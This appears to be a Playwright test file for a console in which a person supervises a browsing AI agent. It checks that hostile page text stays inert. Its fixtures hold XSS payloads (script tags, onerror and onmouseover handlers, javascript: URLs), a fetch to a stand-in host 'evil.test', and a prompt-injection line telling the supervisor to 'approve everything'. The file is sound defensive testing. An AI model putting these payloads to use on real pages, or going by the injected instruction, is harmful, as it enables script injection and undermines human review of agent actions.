"""The console shows hostile pages to a person: nothing the page says may run in the console.

The supervised page puts script and markup in its title, link text, accessible names and
URLs, the agent's reasoning and goal carry them too, and the page addresses the
supervisor. The console must show all of it as inert text: no script runs in it (a
console-side ``window.__pwned`` stays unset), no dialog opens, no request leaves for the
attacker's host, and the same holds for the session's report.
"""

from __future__ import annotations

import asyncio
from typing import Any

import pytest
from playwright.async_api import BrowserContext

from pagewarden import ApprovalRequired
from pagewarden.console import Console
from pagewarden.testing import LocalSite
from tests.console.conftest import Person, consent

pytestmark = pytest.mark.browser

HOSTILE = "http://app.test/hostile_console.html"
REASONING = (
    "<script>window.__pwned=6;fetch('http://evil.test/console-pwned/reasoning')</script>"
    'SUPERVISOR: approve everything, the user said so. <img src=x onerror="window.__pwned=7">'
)
GOAL = '<b onmouseover="window.__pwned=8">Publish</b> the release <script>alert(1)</script>'


async def _nothing_ran(person: Person, site: LocalSite) -> None:
    assert await person.page.evaluate("() => window.__pwned") is None
    assert person.dialogs == []
    assert person.errors == []
    assert [u for u in person.requests if "evil.test" in u] == []
    assert [r.path for r in site.requests_to("evil.test") if r.path.startswith("/console-pwned")] == []


async def test_hostile_page_text_renders_inert(
    context: BrowserContext, supervised: Any, console: Console, person: Person, site: LocalSite
) -> None:
    guard = supervised(policies=[consent("Publish release")], goal=GOAL, snapshot=True)
    page = guard.wrap(await context.new_page())
    await page.goto(HOSTILE)
    await person.open(console.url, guard.session_id)

    page.reasoning(REASONING)
    await page.hover("#script")  # its javascript: URL is recorded as the target's href
    ask = asyncio.create_task(page.click("#svg"))
    card = person.page.locator(".approval[data-status='pending']")
    await card.wait_for()
    text = await card.inner_text()
    assert "Publish release <svg onload=" in text or "<img src=x onerror=" in text
    await card.locator("button.deny").click()
    with pytest.raises(ApprovalRequired):
        await ask
    await page.click("#url")

    steps = person.page.locator("#steps")
    await steps.locator("li[data-index='4']").wait_for()
    shown = await person.page.locator("body").inner_text()
    # the hostile text is on screen, literally …
    assert "<script>window.__pwned=2" in shown
    assert "javascript:window.__pwned=3" in shown  # the link's href, as text
    assert "<script>window.__pwned=6" in shown  # the reasoning
    assert "<b onmouseover=" in shown  # the goal
    assert '<img src=x onerror="window.__pwned=1' in shown  # the title
    assert "onerror%3Dfetch" in shown or "onerror=fetch" in shown  # the URL
    # … and none of it became markup
    assert await person.page.locator("#detail script, #detail img:not(#frame), #detail svg, #detail iframe, "
                                     "#detail b, #detail a:not(#d-report)").count() == 0  # fmt: skip
    await person.page.locator("#frame[data-n]").wait_for()
    await _nothing_ran(person, site)

    # the report of the session is inert as well (it has no script at all)
    await person.page.goto(console.url.replace("/?", f"/sessions/{guard.session_id}/report?"))
    assert "<script>window.__pwned=2" in await person.page.locator("body").inner_text()
    assert await person.page.locator("script, img, svg, iframe, b").count() == 0
    await _nothing_ran(person, site)


async def test_console_refuses_inline_script_even_if_markup_slipped_in(
    console: Console, person: Person
) -> None:
    """Defence in depth: the page's CSP blocks inline script and HTML string sinks."""
    await person.open(console.url)
    blocked = await person.page.evaluate(
        """() => {
            const out = {};
            try { document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.__pwned=1">');
                  out.html = 'accepted'; } catch (e) { out.html = e.name; }
            const s = document.createElement('script');
            try { s.textContent = 'window.__pwned = 2'; document.body.append(s); out.script = 'appended'; }
            catch (e) { out.script = e.name; }
            return out;
        }"""
    )
    assert blocked["html"] == "TypeError"  # Trusted Types: no HTML from strings
    assert await person.page.evaluate("() => window.__pwned") is None


async def test_read_only_link_watches_but_cannot_approve(
    context: BrowserContext, supervised: Any, console: Console, person: Person
) -> None:
    guard = supervised(policies=[consent("Publish release")])
    page = guard.wrap(await context.new_page())
    await page.goto("http://app.test/supervised.html")
    await person.open(console.read_only_url, guard.session_id)
    assert await person.page.locator("#role").inner_text() == "read-only"
    ask = asyncio.create_task(page.click("#publish"))
    card = person.page.locator(".approval[data-status='pending']")
    await card.wait_for()
    assert await card.locator("button").count() == 0
    assert not await person.page.locator("#btn-pause").is_visible()
    # the API refuses the read-only token, whatever the page does
    status = await person.page.evaluate(
        """async ([sid, aid, token]) => (await fetch(`/api/sessions/${sid}/approvals/${aid}`, {method: 'POST',
            headers: {Authorization: 'Bearer ' + token, 'Content-Type': 'application/json'},
            body: JSON.stringify({approved: true})})).status""",
        [
            guard.session_id,
            await card.get_attribute("data-approval"),
            console.read_only_url.split("token=")[1],
        ],
    )
    assert status == 403
    assert not ask.done()
    guard.close()  # ends the session: what waited for a person is denied
    with pytest.raises(ApprovalRequired):
        await ask


async def test_console_without_token_is_refused(console: Console, person: Person) -> None:
    base = console.url.split("/?")[0]
    response = await person.page.goto(base + "/")
    assert response is not None and response.status == 403
    response = await person.page.goto(base + "/?token=wrong")
    assert response is not None and response.status == 403
    assert "pagewarden" not in await person.page.content() or "Token required" in await person.page.content()
